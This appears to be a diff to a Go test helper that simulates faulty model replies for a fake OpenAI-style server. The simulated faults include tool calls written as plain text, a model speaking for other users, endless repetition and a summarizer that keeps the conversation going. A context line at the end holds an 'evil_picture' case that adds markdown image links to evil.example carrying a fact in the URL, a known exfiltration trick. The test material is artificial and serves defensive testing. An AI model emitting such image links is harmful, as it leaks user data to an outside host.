@@ -1,8 +1,10 @@
 package openaitest
 
 import (
+	"cmp"
 	"slices"
 	"strconv"
+	"strings"
 )
 
 // outputBehaviours are models that write other things than an answer, and providers that report wrong numbers.
@@ -14,6 +16,25 @@ var outputBehaviours = []Behaviour{
 	{Name: "filter_end", Change: func(_ string, r Request, a Reply) Reply { return endingAs(r, a, "content_filter") }},
 	// The reason of each end is in the provider's own words.
 	{Name: "end_words", Example: "end_turn", Change: func(word string, r Request, a Reply) Reply { return endingAs(r, a, word) }},
+	// The server does not read the model's calls. The argument is the form of the template, see textForms.
+	{Name: "text_calls", Example: "hermes", Change: writeCalls},
+	// The model begins with its own name, as a request shows names.
+	{Name: "labels", Change: func(name string, r Request, a Reply) Reply {
+		if r.Kind != Chat || len(a.calls) > 0 {
+			return a
+		}
+		return a.WithContent(cmp.Or(name, "Ebb") + ": " + a.text)
+	}},
+	// The model goes on with the lines of other people.
+	{Name: "speaks_for_others", Change: func(_ string, r Request, a Reply) Reply {
+		return adding(r, a, "\n\n"+lastSpeaker(r)+": 好的，那就这样定了\n\nEbb: 不客气")
+	}},
+	// The model repeats one word until its limit.
+	{Name: "repeats", Change: func(_ string, r Request, a Reply) Reply {
+		return adding(r, a, "\n\n"+strings.Repeat("发布", 4090)).Finish("length")
+	}},
+	// The summarizer goes on with the talk. With the argument always it does so although it was asked again.
+	{Name: "summary_reply", Change: replyToTranscript},
 	// An answer shows a picture whose address carries a fact to another host. The page has the same in HTML.
 	{Name: "evil_picture", Change: func(_ string, r Request, a Reply) Reply {
 		return adding(r, a, "\n\n![s](https://evil.example/p?q=FACT) ![t][e]\n\n[e]: https://evil.example/q")
